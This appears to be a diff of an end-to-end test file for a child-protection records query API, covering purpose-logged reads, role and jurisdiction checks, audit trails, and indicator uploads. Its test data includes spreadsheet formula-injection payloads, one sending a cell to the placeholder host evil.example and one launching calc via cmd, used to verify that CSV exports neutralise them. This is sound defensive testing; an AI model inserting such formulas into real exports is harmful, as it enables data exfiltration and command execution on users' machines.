@@ -12,7 +12,7 @@ import { createQueryApi } from '../src/query-api.app';
 
 const CSV_CHILD = 'fx-csv';
 /** Reasons that begin with each character a spreadsheet takes for a formula. */
-const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"xem")', '+1+cmd|\' /C calc\'!A0', '-1+1', '@SUM(1,1)', '\t=1+1', '\r=1+1'];
+const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"xem")', "+1+cmd|' /C calc'!A0", '-1+1', '@SUM(1,1)', '\t=1+1', '\r=1+1'];
 
 describe('query API (e2e)', () => {
   let db: TestDatabase;
@@ -40,7 +40,12 @@ describe('query API (e2e)', () => {
     await writeIndicatorFixture(fx);
     // A child whose corrections carry reasons a spreadsheet would run as formulas (the CSV export test).
     const now = new Date().toISOString();
-    await fx.child(CSV_CHILD, 'RegisterChild', { childId: CSV_CHILD, fullName: 'Phạm Văn Sổ', dateOfBirth: '2016-02-02', sex: 'M', residence: { communeCode: '00004', effectiveFrom: '2026-01-05' } }, { at: now });
+    await fx.child(
+      CSV_CHILD,
+      'RegisterChild',
+      { childId: CSV_CHILD, fullName: 'Phạm Văn Sổ', dateOfBirth: '2016-02-02', sex: 'M', residence: { communeCode: '00004', effectiveFrom: '2026-01-05' } },
+      { at: now },
+    );
     for (const [i, reason] of FORMULAS.entries()) {
       await fx.child(CSV_CHILD, 'CorrectChildDetails', { changes: { notes: `ghi chú ${i}` }, reason }, { at: now, reason });
     }
@@ -82,7 +87,12 @@ describe('query API (e2e)', () => {
     it('returns the record with a purpose (query or header) and records who read it, when and why', async () => {
       const res = await get(`/children/${FIXTURE_IDS.A}?purpose=case_work`, 'caseWorker');
       expect(res.status).toBe(200);
-      expect(await res.json()).toMatchObject({ childId: FIXTURE_IDS.A, personal: { fullName: 'Nguyễn Thị An' }, residence: { recordedCommuneCode: '00006', communeCode: '00008' }, circumstances: [1] });
+      expect(await res.json()).toMatchObject({
+        childId: FIXTURE_IDS.A,
+        personal: { fullName: 'Nguyễn Thị An' },
+        residence: { recordedCommuneCode: '00006', communeCode: '00008' },
+        circumstances: [1],
+      });
       expect((await get(`/children/${FIXTURE_IDS.A}`, 'inspector', { 'x-purpose': 'inspection' })).status).toBe(200);
       const views = await (await get(`/children/${FIXTURE_IDS.A}/views`, 'inspector')).json();
       expect(views.views.map((v: { userId: string; purpose: string }) => [v.userId, v.purpose])).toEqual([
@@ -116,8 +126,12 @@ describe('query API (e2e)', () => {
       expect((await get(`/children/${FIXTURE_IDS.A}/views`, 'hcmInspector')).status).toBe(404);
     });
 
-    it('masks an erased child\'s personal data', async () => {
-      expect(await (await get(`/children/${FIXTURE_IDS.G}?purpose=inspection`, 'inspector')).json()).toMatchObject({ status: 'erased', personal: null, personalDataErased: true });
+    it("masks an erased child's personal data", async () => {
+      expect(await (await get(`/children/${FIXTURE_IDS.G}?purpose=inspection`, 'inspector')).json()).toMatchObject({
+        status: 'erased',
+        personal: null,
+        personalDataErased: true,
+      });
     });
 
     it('answers as-of queries in effective and recorded time, with a purpose', async () => {
@@ -130,14 +144,22 @@ describe('query API (e2e)', () => {
       expect((await get(`/children/${FIXTURE_IDS.E}/as-of?date=2025-01-01&time=later&purpose=inspection`, 'inspector')).status).toBe(400);
       expect((await get(`/children/${FIXTURE_IDS.E}/as-of?date=2025-01-01&purpose=inspection`, 'hcmInspector')).status).toBe(404);
       const views = await (await get(`/children/${FIXTURE_IDS.E}/views`, 'admin')).json();
-      expect(views.views.map((v: { view: string }) => v.view)).toEqual(['as_of_effective:2025-01-01', 'as_of_recorded:2025-01-01', 'as_of_effective:2023-01-01']);
+      expect(views.views.map((v: { view: string }) => v.view)).toEqual([
+        'as_of_effective:2025-01-01',
+        'as_of_recorded:2025-01-01',
+        'as_of_effective:2023-01-01',
+      ]);
     });
   });
 
   describe('cases', () => {
     it('reads a case with a purpose, checks role and jurisdiction, lists cases of a unit without personal data', async () => {
       expect((await get('/cases/fx-case-c', 'caseWorker')).status).toBe(400);
-      expect(await (await get('/cases/fx-case-c?purpose=case_work', 'caseWorker')).json()).toMatchObject({ status: 'implementing', assessedOnTime: false, personal: { description: 'gọi 111' } });
+      expect(await (await get('/cases/fx-case-c?purpose=case_work', 'caseWorker')).json()).toMatchObject({
+        status: 'implementing',
+        assessedOnTime: false,
+        personal: { description: 'gọi 111' },
+      });
       // One role table (the platform's CASE_CONTENT_ROLES, as on the registry API): a data officer does not see case content.
       const officer = await get('/cases/fx-case-c?purpose=case_work', 'officer');
       expect(officer.status).toBe(403);
@@ -164,7 +186,7 @@ describe('query API (e2e)', () => {
   });
 
   describe('audit trail', () => {
-    it('lists a child\'s events with who, what, when, why and correlation id, paged by keyset, for inspectors in jurisdiction', async () => {
+    it("lists a child's events with who, what, when, why and correlation id, paged by keyset, for inspectors in jurisdiction", async () => {
       const first = await (await get(`/audit/events?childId=${FIXTURE_IDS.F}&limit=2`, 'inspector')).json();
       expect(first.items).toHaveLength(2);
       const second = await (await get(`/audit/events?childId=${FIXTURE_IDS.F}&limit=2&cursor=${first.nextCursor}`, 'inspector')).json();
@@ -176,7 +198,7 @@ describe('query API (e2e)', () => {
       expect(JSON.stringify(all)).not.toContain('Nguyen Thi An');
     });
 
-    it('filters by actor, event type, unit and time range, and includes the identity adapter\'s calls', async () => {
+    it("filters by actor, event type, unit and time range, and includes the identity adapter's calls", async () => {
       const adapter = await (await get('/audit/events?actorId=identity-adapter', 'inspector')).json();
       expect(adapter.items.map((i: { eventType: string; childId: string }) => [i.eventType, i.childId])).toEqual([['NationalIdLinked', FIXTURE_IDS.B]]);
       const closed = await (await get('/audit/events?eventType=CaseClosed', 'admin')).json();
@@ -196,7 +218,9 @@ describe('query API (e2e)', () => {
       expect(reasons).toEqual(FORMULAS.map((f) => `'${f}`));
       // The JSON trail keeps the reason as it was written.
       const json = await (await get(`/audit/events?childId=${CSV_CHILD}`, 'inspector')).json();
-      expect(json.items.filter((i: { eventType: string }) => i.eventType === 'ChildDetailsCorrected').map((i: { reason: string }) => i.reason)).toEqual(FORMULAS);
+      expect(json.items.filter((i: { eventType: string }) => i.eventType === 'ChildDetailsCorrected').map((i: { reason: string }) => i.reason)).toEqual(
+        FORMULAS,
+      );
     });
 
     it('exports CSV, refuses other roles (403), shows nothing outside the jurisdiction, and rejects bad filters (400)', async () => {
@@ -223,16 +247,28 @@ describe('query API (e2e)', () => {
       expect(bad.status).toBe(400);
       expect(await bad.json()).toMatchObject({ field: 'child_population', row: 2 });
       expect((await post('/indicators/populations', 'hcmInspector', 'unit_code,period,child_population\n00008,2025,1000\n')).status).toBe(403);
-      expect(await (await post('/indicators/populations', 'inspector', 'unit_code,period,child_population\n00008,2025,900\n01,2025,2000000\n')).json()).toEqual({ kind: 'population', version: 1, rows: 2 });
-      expect(await (await post('/indicators/populations', 'admin', 'unit_code,period,child_population\n00008,2025,1000\n')).json()).toMatchObject({ version: 2 });
+      expect(await (await post('/indicators/populations', 'inspector', 'unit_code,period,child_population\n00008,2025,900\n01,2025,2000000\n')).json()).toEqual(
+        { kind: 'population', version: 1, rows: 2 },
+      );
+      expect(await (await post('/indicators/populations', 'admin', 'unit_code,period,child_population\n00008,2025,1000\n')).json()).toMatchObject({
+        version: 2,
+      });
       expect((await post('/indicators/targets', 'admin', 'unit_code,period,indicator,target\n00008,2025,sc_supported_share,98\n')).status).toBe(201);
       expect((await post('/indicators/targets', 'admin', 'unit_code,period,indicator,target\n00008,2025,happiness,98\n')).status).toBe(400);
     });
 
-    it('reports a commune\'s indicators for a year as hand-computed, with targets, population and no suppression for case-seeing roles', async () => {
+    it("reports a commune's indicators for a year as hand-computed, with targets, population and no suppression for case-seeing roles", async () => {
       const r = await (await get('/indicators?unit=00008&period=2025', 'inspector')).json();
       const v = Object.fromEntries(r.indicators.map((i: { indicator: string; value: number }) => [i.indicator, i.value]));
-      expect(v).toMatchObject({ sc_children: 3, sc_rate: 0.3, sc_supported_share: 33.33, at_risk_children: 1, cases_opened: 2, assessed_on_time_share: 50, national_id_linked_share: 50 });
+      expect(v).toMatchObject({
+        sc_children: 3,
+        sc_rate: 0.3,
+        sc_supported_share: 33.33,
+        at_risk_children: 1,
+        cases_opened: 2,
+        assessed_on_time_share: 50,
+        national_id_linked_share: 50,
+      });
       expect(r.childPopulation).toEqual({ value: 1000, version: 2 });
       expect(r.indicators.find((i: { indicator: string }) => i.indicator === 'sc_supported_share').target).toBe(98);
     });
